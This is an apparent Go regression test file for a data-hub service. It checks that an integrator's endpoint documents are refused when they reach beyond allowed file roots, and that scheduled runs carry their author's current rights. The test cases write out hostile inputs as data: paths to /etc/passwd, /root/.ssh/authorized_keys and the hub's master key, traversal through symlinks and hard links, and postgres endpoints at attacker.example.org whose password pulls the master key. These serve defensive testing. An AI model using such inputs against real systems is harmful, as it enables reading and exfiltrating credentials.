package app_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/datahub-oss/datahub/internal/app"
	"github.com/datahub-oss/datahub/internal/auth"
	"github.com/datahub-oss/datahub/internal/config"
	"github.com/datahub-oss/datahub/internal/notify"
	"github.com/datahub-oss/datahub/internal/store/storetest"
	"github.com/datahub-oss/datahub/internal/testutil"
	"github.com/datahub-oss/datahub/internal/txlog"
)

// policyHub is a hub on a fresh data folder with one file root (base/root) and a folder
// outside every root (base/outside), as the attacks of issue 8 find it.
type policyHub struct {
	t                         *testing.T
	h                         *app.Hub
	data, root, outside, base string
	admin                     client
}

func newPolicyHub(t *testing.T, mod ...func(*config.Config)) *policyHub {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	ph := &policyHub{t: t, base: base, data: filepath.Join(base, "data"), root: filepath.Join(base, "root"), outside: filepath.Join(base, "outside")}
	for _, d := range []string{ph.root, ph.outside} {
		if err := os.MkdirAll(d, 0o750); err != nil {
			t.Fatal(err)
		}
	}
	cfg := config.Default()
	cfg.Data, cfg.Addr, cfg.FileRoots = ph.data, "127.0.0.1:0", []string{ph.root}
	for _, m := range mod {
		m(&cfg)
	}
	ph.h, _ = start(t, cfg)
	token, err := os.ReadFile(filepath.Join(ph.data, "admin.token"))
	if err != nil {
		t.Fatal(err)
	}
	ph.admin = client{t: t, base: "http://" + ph.h.Addr, token: strings.TrimSpace(string(token))}
	ph.write("root/in.csv", "id,name\n1,a\n2,b\n")
	ph.apply(ph.admin, 200, "apiVersion: datahub/v1\nkind: System\nmetadata: {name: sys}\nspec: {owner: probe}\n")
	return ph
}

func (ph *policyHub) write(rel, content string) string {
	ph.t.Helper()
	p := filepath.Join(ph.base, rel)
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		ph.t.Fatal(err)
	}
	return p
}

// user creates a user with roles and returns a client with its token.
func (ph *policyHub) user(name string, roles ...auth.Role) client {
	ph.t.Helper()
	ctx := context.Background()
	u, err := ph.h.Auth.CreateUser(ctx, auth.NewUser{Name: name, Roles: roles})
	if err != nil {
		ph.t.Fatal(err)
	}
	tok, _, err := ph.h.Auth.CreateToken(ctx, &auth.Principal{UserID: u.ID, Name: u.Name, Roles: u.Roles}, auth.NewToken{UserID: u.ID, Name: "t"})
	if err != nil {
		ph.t.Fatal(err)
	}
	return client{t: ph.t, base: ph.admin.base, token: tok}
}

// apply applies doc as c and wants status; it returns the body.
func (ph *policyHub) apply(c client, status int, doc string) string {
	ph.t.Helper()
	code, b := c.do("POST", "/api/v1/apply", "application/yaml", []byte(doc))
	if code != status {
		ph.t.Fatalf("apply: %d, want %d: %s\n%s", code, status, b, doc)
	}
	return string(b)
}

// run runs integration name in env as c, waits, and returns the run.
func (ph *policyHub) run(c client, name, env string) map[string]any {
	ph.t.Helper()
	code, b := c.do("POST", "/api/v1/integrations/"+name+"/runs?wait=true", "application/json", []byte(`{"env":"`+env+`"}`))
	if code != 200 {
		ph.t.Fatalf("run %s: %d %s", name, code, b)
	}
	var run map[string]any
	if err := json.Unmarshal(b, &run); err != nil {
		ph.t.Fatal(err)
	}
	return run
}

func endpointDoc(name, typ, url string, extra ...string) string {
	return fmt.Sprintf("apiVersion: datahub/v1\nkind: Endpoint\nmetadata: {name: %s}\nspec:\n  system: sys\n  type: %s\n  environments:\n    DEV: {url: %q}\n%s",
		name, typ, url, strings.Join(extra, ""))
}

// TestIntegratorCannotReachBeyondTheRoots reproduces findings 1 to 4 of issue 8 as an
// integrator: each document is refused at apply (dry runs too) with a 422 naming the
// document, the field and why.
func TestIntegratorCannotReachBeyondTheRoots(t *testing.T) {
	ph := newPolicyHub(t)
	ivan := ph.user("ivan", auth.RoleIntegrator)
	if err := os.Symlink(filepath.Join(ph.data, "master.key"), filepath.Join(ph.root, "key.csv")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(ph.outside, filepath.Join(ph.root, "out")); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(filepath.Join(ph.data, "master.key"), filepath.Join(ph.root, "hard.csv")); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, doc, field, why string
	}{
		{"the hub's store as an sqlite endpoint (finding 1)", endpointDoc("hubdb", "sqlite", "sqlite:"+filepath.Join(ph.data, "datahub.db")),
			"spec.environments.DEV.url", "hub's data folder"},
		{"the store through files/..", endpointDoc("hubdb", "sqlite", "sqlite:"+ph.data+"/files/../datahub.db?table=auth_users"),
			"spec.environments.DEV.url", "hub's data folder"},
		{"the master key as a file (finding 2)", endpointDoc("mk", "file", filepath.Join(ph.data, "master.key"), "  options: {header: \"false\"}\n"),
			"spec.environments.DEV.url", "hub's data folder"},
		{"/etc/passwd", endpointDoc("pw", "file", "/etc/passwd"), "spec.environments.DEV.url", "outside the hub's file roots"},
		{"a write outside the roots (finding 3)", endpointDoc("out", "file", filepath.Join(ph.outside, "out.csv")),
			"spec.environments.DEV.url", "outside the hub's file roots"},
		{"/root/.ssh/authorized_keys", endpointDoc("keys", "file", "/root/.ssh/authorized_keys"), "spec.environments.DEV.url", "outside the hub's file roots"},
		{"dot-dot out of a root", endpointDoc("dd", "file", ph.root+"/../outside/x.csv"), "spec.environments.DEV.url", "outside the hub's file roots"},
		{"a symlink to the master key", endpointDoc("sl", "file", filepath.Join(ph.root, "key.csv")), "spec.environments.DEV.url", "hub's data folder"},
		{"a symlink out of a root", endpointDoc("so", "file", filepath.Join(ph.root, "out", "x.csv")), "spec.environments.DEV.url", "outside the hub's file roots"},
		{"a hard link to the master key", endpointDoc("hl", "file", filepath.Join(ph.root, "hard.csv")), "spec.environments.DEV.url", "hard links"},
		{"password: file:<data>/master.key (finding 4)", endpointDoc("exfil", "postgres", "postgres://me@attacker.example.org/db",
			"  secrets: {password: \"file:"+filepath.Join(ph.data, "master.key")+"\"}\n"), "spec.secrets.password", "hub's data folder"},
		{"password: file:/etc/hostname", endpointDoc("exfil", "postgres", "postgres://me@attacker.example.org/db",
			"  secrets: {password: \"file:/etc/hostname\"}\n"), "spec.secrets.password", "only admins"},
		{"password: env:HOME", endpointDoc("exfil", "postgres", "postgres://me@attacker.example.org/db",
			"  secrets: {password: \"env:HOME\"}\n"), "spec.secrets.password", "only admins"},
		{"the master key as a TLS file", endpointDoc("tlsca", "postgres", "postgres://me@attacker.example.org/db?sslmode=verify-full&sslrootcert="+
			filepath.Join(ph.data, "master.key")), "spec.environments.DEV.url", "hub's data folder"},
		{"a passfile of the hub", endpointDoc("pgpass", "postgres", "postgres://me@attacker.example.org/db?passfile=/root/.pgpass"),
			"spec.environments.DEV.url", "only admins"},
		{"a service file", endpointDoc("svc", "postgres", "postgres://me@attacker.example.org/db?service=hub"),
			"spec.environments.DEV.url", "service file"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, path := range []string{"/api/v1/apply?dry_run=true", "/api/v1/apply"} {
				code, b := ivan.do("POST", path, "application/yaml", []byte(tc.doc))
				var e struct {
					Details struct {
						Errors []struct {
							Document int    `json:"document"`
							Field    string `json:"field"`
							Message  string `json:"message"`
						} `json:"errors"`
					} `json:"details"`
				}
				_ = json.Unmarshal(b, &e)
				if code != 422 || len(e.Details.Errors) != 1 {
					t.Fatalf("%s: %d %s", path, code, b)
				}
				fe := e.Details.Errors[0]
				if fe.Document != 1 || fe.Field != tc.field || !strings.Contains(fe.Message, tc.why) || !strings.Contains(fe.Message, "is refused") {
					t.Errorf("%s: error %+v, want field %s saying %q", path, fe, tc.field, tc.why)
				}
			}
		})
	}
	// Nothing changed hands: ivan is still an integrator.
	if code, b := ivan.do("GET", "/api/v1/me", "", nil); code != 200 || strings.Contains(string(b), `"admin"`) {
		t.Fatalf("me: %d %s", code, b)
	}
	// The admin may reference the hub's environment, but not the data folder either.
	ph.apply(ph.admin, 200, endpointDoc("env-ok", "postgres", "postgres://me@db.example.org/db", "  secrets: {password: \"env:HOME\"}\n"))
	ph.apply(ph.admin, 422, endpointDoc("key-no", "postgres", "postgres://me@db.example.org/db",
		"  secrets: {password: \"file:"+filepath.Join(ph.data, "master.key")+"\"}\n"))
}

// TestConfinedAtRunTime: an endpoint that was fine when applied and leads out of the roots
// by the time it runs (a symbolic link or a hard link swapped in) is refused by the policy
// step before the engine opens it; the master key is read by nobody.
func TestConfinedAtRunTime(t *testing.T) {
	ph := newPolicyHub(t)
	ivan := ph.user("ivan", auth.RoleIntegrator)
	src := filepath.Join(ph.root, "in.csv")
	ph.apply(ivan, 200, endpointDoc("src", "file", src, "  options: {header: \"false\"}\n")+"---\n"+
		endpointDoc("dst", "sqlite", "sqlite:"+filepath.Join(ph.data, "files", "out.db"))+"---\n"+
		"apiVersion: datahub/v1\nkind: Integration\nmetadata: {name: copy}\nspec:\n  source: {endpoint: src}\n"+
		"  destination: {endpoint: dst, table: t, mode: append}\n  mapping: {columns: [{from: c1, type: int64}]}\n  trigger: {type: manual}\n")
	key, err := os.ReadFile(filepath.Join(ph.data, "master.key"))
	if err != nil {
		t.Fatal(err)
	}
	for _, swap := range []struct {
		name string
		do   func() error
		why  string
	}{
		{"symlink", func() error { return os.Symlink(filepath.Join(ph.data, "master.key"), src) }, "hub's data folder"},
		{"hard link", func() error { return os.Link(filepath.Join(ph.data, "master.key"), src) }, "hard links"},
	} {
		t.Run(swap.name, func(t *testing.T) {
			if err := os.Remove(src); err != nil && !os.IsNotExist(err) {
				t.Fatal(err)
			}
			if err := swap.do(); err != nil {
				t.Fatal(err)
			}
			run := ph.run(ivan, "copy", "DEV")
			msg, _ := run["error"].(string)
			if run["status"] != "failed" || !strings.Contains(msg, `endpoint "src" in DEV`) || !strings.Contains(msg, swap.why) {
				t.Fatalf("run: %v", run)
			}
			if run["rows_read"].(float64) != 0 || run["rejects_path"] != nil && run["rejects_path"] != "" {
				t.Fatalf("the engine opened the source: %v", run)
			}
			b, _ := json.Marshal(run)
			if strings.Contains(string(b), strings.TrimSpace(string(key))) {
				t.Fatal("the master key is in the run")
			}
		})
	}
}

// TestPostgresStoreRefused: with a PostgreSQL metadata store, an endpoint that reaches the
// store's database is refused whatever its host is called; another database on the same
// server is fine.
func TestPostgresStoreRefused(t *testing.T) {
	if testing.Short() {
		t.Skip("needs PostgreSQL; skipped with -short")
	}
	storeURL := storetest.PostgresURL(t)
	ph := newPolicyHub(t, func(c *config.Config) { c.Store = storeURL })
	ivan := ph.user("ivan", auth.RoleIntegrator)
	u, err := url.Parse(storeURL)
	if err != nil {
		t.Fatal(err)
	}
	db := strings.TrimPrefix(u.Path, "/")
	for _, host := range []string{"127.0.0.1", "localhost", "localhost:5432", "[::1]"} {
		doc := endpointDoc("hubpg", "postgres", "postgres://postgres@"+host+"/"+db)
		for _, who := range []client{ivan, ph.admin} {
			if b := ph.apply(who, 422, doc); !strings.Contains(b, "hub's own metadata store") {
				t.Errorf("%s: %s", host, b)
			}
		}
	}
	ph.apply(ivan, 200, endpointDoc("otherpg", "postgres", "postgres://postgres@localhost/postgres"))
}

// TestTriggerRunsCarryTheAuthorsRights reproduces finding 5: an integrator's PROD schedule or
// webhook is refused at apply, and an integrator cannot change or delete an integration that
// a PROD schedule starts.
func TestTriggerRunsCarryTheAuthorsRights(t *testing.T) {
	ph := newPolicyHub(t)
	ivan := ph.user("ivan", auth.RoleIntegrator)
	eps := endpointDoc("src", "file", filepath.Join(ph.root, "in.csv")) + "---\n" +
		endpointDoc("dst", "sqlite", "sqlite:"+filepath.Join(ph.data, "files", "out.db")) + "---\n"
	ph.apply(ivan, 200, strings.ReplaceAll(eps, "DEV:", "PROD:"))
	integ := func(name, trigger, desc string) string {
		return fmt.Sprintf("apiVersion: datahub/v1\nkind: Integration\nmetadata: {name: %s}\nspec:\n  description: %s\n  source: {endpoint: src}\n"+
			"  destination: {endpoint: dst, table: %s, mode: append}\n  trigger: %s\n", name, desc, name, trigger)
	}
	for _, trig := range []string{`{type: schedule, cron: "@every 1h", env: PROD}`, `{type: webhook, env: PROD, secret: "secret:hook"}`} {
		b := ph.apply(ivan, 422, integ("ivan-prod", trig, "x"))
		if !strings.Contains(b, "spec.trigger.env") || !strings.Contains(b, "PROD") {
			t.Errorf("%s: %s", trig, b)
		}
	}
	ph.apply(ph.admin, 200, integ("admin-prod", `{type: schedule, cron: "@every 1h", env: PROD}`, "by the admin"))
	if b := ph.apply(ivan, 422, integ("admin-prod", `{type: schedule, cron: "@every 1h", env: DEV}`, "moved to DEV")); !strings.Contains(b, "current trigger") {
		t.Errorf("edit of a PROD schedule: %s", b)
	}
	if code, b := ivan.do("DELETE", "/api/v1/resources/integration/admin-prod", "", nil); code != 403 || !strings.Contains(string(b), "PROD") {
		t.Errorf("delete of a PROD schedule: %d %s", code, b)
	}
}

// TestDowngradedAuthorsTriggerStops: a schedule's runs are checked at run time against its
// author's current roles; once the author may no longer run in PROD, its runs fail with an
// error saying so and read nothing.
func TestDowngradedAuthorsTriggerStops(t *testing.T) {
	ph := newPolicyHub(t)
	ann := ph.user("ann", auth.RoleAdmin)
	ph.apply(ann, 200, strings.ReplaceAll(endpointDoc("src", "file", filepath.Join(ph.root, "in.csv"))+"---\n"+
		endpointDoc("dst", "sqlite", "sqlite:"+filepath.Join(ph.data, "files", "out.db")), "DEV:", "PROD:")+"---\n"+
		"apiVersion: datahub/v1\nkind: Integration\nmetadata: {name: nightly}\nspec:\n  source: {endpoint: src}\n"+
		"  destination: {endpoint: dst, table: t, mode: append}\n  trigger: {type: schedule, cron: \"@every 1s\", env: PROD}\n")
	ctx := context.Background()
	wait := func(what string, ok func(txlog.Run) bool) txlog.Run {
		t.Helper()
		var found txlog.Run
		testutil.Eventually(t, 30*time.Second, 100*time.Millisecond, func() error {
			p, err := ph.h.Log.List(ctx, txlog.Filter{Integration: "nightly", Limit: 100})
			if err != nil {
				return err
			}
			for _, r := range p.Runs {
				if ok(r) {
					found = r
					return nil
				}
			}
			return fmt.Errorf("no run %s among %d", what, len(p.Runs))
		})
		return found
	}
	first := wait("succeeded", func(r txlog.Run) bool { return r.Status == "succeeded" })
	if first.RequestedBy != "schedule (by ann)" {
		t.Errorf("requested_by %q", first.RequestedBy)
	}
	u, err := ph.h.Auth.GetByName(ctx, "ann")
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := ph.h.Auth.SetRoles(ctx, u.ID, []auth.Role{auth.RoleIntegrator}); err != nil {
		t.Fatal(err)
	}
	failed := wait("refused", func(r txlog.Run) bool { return r.Status == "failed" })
	if !strings.Contains(failed.Error, "ann") || !strings.Contains(failed.Error, "may not run integrations in PROD") ||
		failed.RowsRead != 0 || failed.ErrorCode != "permission" {
		t.Fatalf("refused run: %+v", failed)
	}
}

// TestTableDeliveryConfined: a table delivery resolves its endpoint through the same policy
// as a run. An SQLite endpoint that was inside a root when applied and has become a symbolic
// link to the hub's store is refused when the delivery opens it: the message goes to the
// dead-letter queue with the reason, and the store gets no table.
func TestTableDeliveryConfined(t *testing.T) {
	ph := newPolicyHub(t)
	ivan := ph.user("ivan", auth.RoleIntegrator)
	db := filepath.Join(ph.root, "msgs.db")
	ph.apply(ivan, 200, endpointDoc("dst", "sqlite", "sqlite:"+db)+`---
apiVersion: datahub/v1
kind: Topic
metadata: {name: orders}
spec: {retention: {maxAge: 1d}}
---
apiVersion: datahub/v1
kind: Subscription
metadata: {name: orders-table}
spec:
  topic: orders
  delivery: {type: table, endpoint: dst, env: DEV, table: msgs}
  retry: {maxDeliver: 1}
`)
	if err := os.Symlink(filepath.Join(ph.data, "datahub.db"), db); err != nil {
		t.Fatal(err)
	}
	var dlq struct {
		Items []struct {
			Error string `json:"error"`
		} `json:"items"`
	}
	testutil.WaitFor(t, 30*time.Second, "a dead letter", func() bool {
		if code, b := ivan.do("POST", "/api/v1/topics/orders/messages", "application/json", []byte(`{"id":1}`)); code != 202 {
			t.Fatalf("publish: %d %s", code, b)
		}
		code, b := ph.admin.do("GET", "/api/v1/subscriptions/orders-table/dlq", "", nil)
		if code != 200 {
			t.Fatalf("dlq: %d %s", code, b)
		}
		_ = json.Unmarshal(b, &dlq)
		return len(dlq.Items) > 0
	})
	if e := dlq.Items[0].Error; !strings.Contains(e, `endpoint "dst" in DEV`) || !strings.Contains(e, "hub's data folder") {
		t.Fatalf("dead letter error: %s", e)
	}
	var n int
	if err := ph.h.DB.QueryRowContext(context.Background(), `SELECT count(*) FROM sqlite_schema WHERE name = 'msgs'`).Scan(&n); err != nil || n != 0 {
		t.Fatalf("the store has %d msgs tables (%v)", n, err)
	}
}

// TestSubscriptionRefsFollowTheAuthor: an http Subscription's env: reference is checked at
// delivery against the current roles of whoever applied it: once that admin is an
// integrator, the delivery is dead-lettered with the reason, the variable never read.
func TestSubscriptionRefsFollowTheAuthor(t *testing.T) {
	t.Setenv("DATAHUB_TEST_RECEIVER", "https://receiver.invalid/hook")
	ph := newPolicyHub(t)
	ann := ph.user("ann", auth.RoleAdmin)
	ph.apply(ann, 200, `apiVersion: datahub/v1
kind: Topic
metadata: {name: orders}
spec: {retention: {maxAge: 1d}}
---
apiVersion: datahub/v1
kind: Subscription
metadata: {name: orders-hook}
spec:
  topic: orders
  delivery: {type: http, url: "env:DATAHUB_TEST_RECEIVER"}
  retry: {maxDeliver: 1}
`)
	// An integrator may not apply the same reference.
	if b := ph.apply(ph.user("ivan", auth.RoleIntegrator), 422, strings.Replace(ph.export(t, "orders-hook"), "orders-hook", "ivan-hook", 1)); !strings.Contains(b, "spec.delivery.url") {
		t.Errorf("integrator's env: reference: %s", b)
	}
	ctx := context.Background()
	u, err := ph.h.Auth.GetByName(ctx, "ann")
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := ph.h.Auth.SetRoles(ctx, u.ID, []auth.Role{auth.RoleIntegrator}); err != nil {
		t.Fatal(err)
	}
	var dlq struct {
		Items []struct {
			Error string `json:"error"`
		} `json:"items"`
	}
	testutil.WaitFor(t, 30*time.Second, "a dead letter", func() bool {
		if code, b := ph.admin.do("POST", "/api/v1/topics/orders/messages", "application/json", []byte(`{"id":1}`)); code != 202 {
			t.Fatalf("publish: %d %s", code, b)
		}
		_, b := ph.admin.do("GET", "/api/v1/subscriptions/orders-hook/dlq", "", nil)
		_ = json.Unmarshal(b, &dlq)
		return len(dlq.Items) > 0
	})
	if e := dlq.Items[0].Error; !strings.Contains(e, "env:DATAHUB_TEST_RECEIVER") || !strings.Contains(e, "last applied by ann") {
		t.Fatalf("dead letter error: %s", e)
	}
}

// export is the Subscription name as a document that applies again.
func (ph *policyHub) export(t *testing.T, name string) string {
	t.Helper()
	code, b := ph.admin.do("GET", "/api/v1/export", "", nil)
	if code != 200 {
		t.Fatalf("export: %d %s", code, b)
	}
	for _, d := range strings.Split(string(b), "\n---\n") {
		if strings.Contains(d, "kind: Subscription") && strings.Contains(d, "name: "+name) {
			return d
		}
	}
	t.Fatalf("no Subscription %s in the export:\n%s", name, b)
	return ""
}

// TestNotificationRefsFollowTheAuthor: a notification channel's references are checked when
// it posts, against the current rights of whoever last applied the rule: once the admin who
// applied an env: webhook URL is an integrator, the post fails naming the reference and the
// variable is never read.
func TestNotificationRefsFollowTheAuthor(t *testing.T) {
	t.Setenv("DATAHUB_TEST_NOTIFY_URL", "https://receiver.invalid/hook")
	ph := newPolicyHub(t)
	ann := ph.user("ann", auth.RoleAdmin)
	ph.apply(ann, 200, endpointDoc("missing", "file", filepath.Join(ph.root, "missing.csv"))+"---\n"+
		endpointDoc("out", "sqlite", "sqlite:"+filepath.Join(ph.root, "out.db"))+`---
apiVersion: datahub/v1
kind: Integration
metadata: {name: fails}
spec:
  source: {endpoint: missing}
  destination: {endpoint: out, table: t, mode: append}
  trigger: {type: manual}
---
apiVersion: datahub/v1
kind: NotificationRule
metadata: {name: failures}
spec:
  match: {types: [run.failed]}
  channels:
    - {name: hook, type: slack, url: "env:DATAHUB_TEST_NOTIFY_URL"}
`)
	ctx := context.Background()
	u, err := ph.h.Auth.GetByName(ctx, "ann")
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := ph.h.Auth.SetRoles(ctx, u.ID, []auth.Role{auth.RoleIntegrator}); err != nil {
		t.Fatal(err)
	}
	if run := ph.run(ph.admin, "fails", "DEV"); run["status"] != "failed" {
		t.Fatalf("run: %v", run)
	}
	var failed []notify.Record
	testutil.WaitFor(t, 30*time.Second, "a failed notification", func() bool {
		failed = listNotifications(t, ph.admin, "status=failed")
		return len(failed) > 0
	})
	if e := failed[0].Error; !strings.Contains(e, "env:DATAHUB_TEST_NOTIFY_URL") || !strings.Contains(e, "last applied by ann") || strings.Contains(e, "receiver.invalid") {
		t.Fatalf("notification error: %s", e)
	}
}
